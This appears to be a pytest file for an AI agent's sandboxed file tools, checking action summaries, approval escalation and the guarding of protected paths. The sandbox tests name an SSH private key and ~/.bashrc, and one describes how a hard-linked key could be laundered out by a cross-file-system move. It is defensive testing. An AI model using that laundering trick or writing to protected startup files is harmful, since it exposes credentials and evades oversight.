    for name in ("Documents", "Desktop", "Projects", "src", "Music", ".ssh", "Dokumente"):
        (env.home / name).mkdir()
    (env.home / ".config").mkdir()
    (env.home / ".config" / "user-dirs.dirs").write_text(
        'XDG_DOCUMENTS_DIR="$HOME/Dokumente"\nXDG_MUSIC_DIR="$HOME/Music"\n'
    )
    assert suggested_folders(env.home) == [
        env.home / "Dokumente",
        env.home / "Documents",
        env.home / "Desktop",
        env.home / "Projects",
        env.home / "src",
    ]


# =============================================================== subject and summary


def test_every_fs_tool_declares_subject_and_summary_and_changers_escalate() -> None:
    for manifest in MANIFESTS:
        assert callable(hook(manifest.name, "subject")), manifest.name
        assert callable(hook(manifest.name, "summary_line")), manifest.name
    changing = {m.name for m in MANIFESTS if m.escalate is not None}
    assert changing == {"fs_write_file", "fs_edit_file", "fs_move", "fs_copy"}


def test_subject_names_resolved_absolute_paths(env: FsEnv) -> None:
    plant(env.home, "notes/todo.md", "x\n")
    (env.home / "n").symlink_to(env.home / "notes", target_is_directory=True)
    ctx = ctx_for(env)
    found = hook("fs_write_file", "subject")(WriteFile(path="~/n/todo.md", content="y"), ctx)
    assert found == Subject(paths=(str(env.home / "notes" / "todo.md"),), target="Files · ~/notes")
    (env.home / "archive").mkdir()
    args = MovePath(source="~/notes/todo.md", destination="~/archive/todo.md")
    moved = hook("fs_move", "subject")(args, ctx)
    assert moved.paths == (str(env.home / "notes/todo.md"), str(env.home / "archive/todo.md"))
    assert moved.target == "Files · ~"


def test_summary_lines(env: FsEnv) -> None:
    plant(env.home, "a.txt", "a\n")
    (env.home / "archive").mkdir()
    for n in range(3):
        plant(env.home, f"old/f{n}.txt", "x")
    ctx = ctx_for(env)
    twelve = "".join(f"line {n}\n" for n in range(12))
    twelve_lines = WriteFile(path="~/notes/todo.md", content=twelve)
    cases: list[tuple[str, Any, str]] = [
        ("fs_write_file", twelve_lines, "Write 12 lines to ~/notes/todo.md"),
        (
            "fs_write_file",
            WriteFile(path="~/a.txt", content="b\n", mode="append"),
            "Append 1 line to ~/a.txt",
        ),
        (
            "fs_move",
            MovePath(source="~/a.txt", destination="~/archive/a.txt"),
            "Move a.txt to ~/archive/",
        ),
        ("fs_move", MovePath(source="~/a.txt", destination="~/b.txt"), "Rename a.txt to b.txt"),
        (
            "fs_copy",
            CopyPath(source="~/a.txt", destination="~/archive/c.txt"),
            "Copy a.txt to ~/archive/c.txt",
        ),
        (
            "fs_delete",
            DeletePath(path="~/old", recursive=True),
            "Delete the folder ~/old (3 files) to the trash",
        ),
        (
            "fs_delete",
            DeletePath(path="~/a.txt", permanent=True),
            "Delete ~/a.txt for good (cannot be undone)",
        ),
        (
            "fs_edit_file",
            EditFile(path="~/a.txt", old_text="a", new_text="b"),
            "Edit ~/a.txt (replace one piece of text)",
        ),
        (
            "fs_read_file",
            ReadFile(path="~/a.txt", start_line=2, end_line=9),
            "Read ~/a.txt (lines 2–9)",
        ),
        ("fs_list_dir", ListDir(path="~/old"), "List the folder ~/old"),
        (
            "fs_search",
            SearchFiles(path="~", pattern="*.md", content="TODO"),
            "Search ~ for *.md containing “TODO”",
        ),
        ("fs_file_info", FileInfo(path="~/a.txt"), "Show details of ~/a.txt"),
    ]
    for tool, args, expected in cases:
        assert hook(tool, "summary_line")(args, ctx) == expected


def test_hooks_refuse_nothing_themselves_for_paths_the_tool_refuses(env: FsEnv) -> None:
    """A protected or outside path: no question is asked; the tool itself refuses."""
    plant(env.home, ".ssh/id_ed25519")
    ctx = ctx_for(env, env.root)
    assert escalate(WriteFile(path=str(env.home / ".bashrc"), content="x"), ctx) is None
    with pytest.raises(ToolError):
        write_file(WriteFile(path=str(env.home / ".bashrc"), content="x"), ctx)
    assert not (env.home / ".bashrc").exists()


def test_moving_a_folder_to_another_file_system_does_not_launder_a_linked_key(
    env: FsEnv, linked_key: Path
) -> None:
    """Across file systems a move copies: the hard-linked key must not become a plain copy."""
    other_fs = Path(os.path.realpath("/dev/shm")) / f"deskhand-test-{os.getpid()}-{id(env)}"
    other_fs.mkdir()
    try:
        assert os.stat(other_fs).st_dev != os.stat(env.root).st_dev
        ctx = ctx_for(env, env.root, other_fs)
        args = MovePath(source=str(env.root / "docs"), destination=str(other_fs / "docs"))
        with pytest.raises(SandboxError, match="protected file"):
            approved("fs_move", args, ctx)
        assert not (other_fs / "docs").exists()
        assert os.path.samefile(linked_key, env.home / ".ssh" / "id_ed25519")
    finally:
        shutil.rmtree(other_fs, ignore_errors=True)
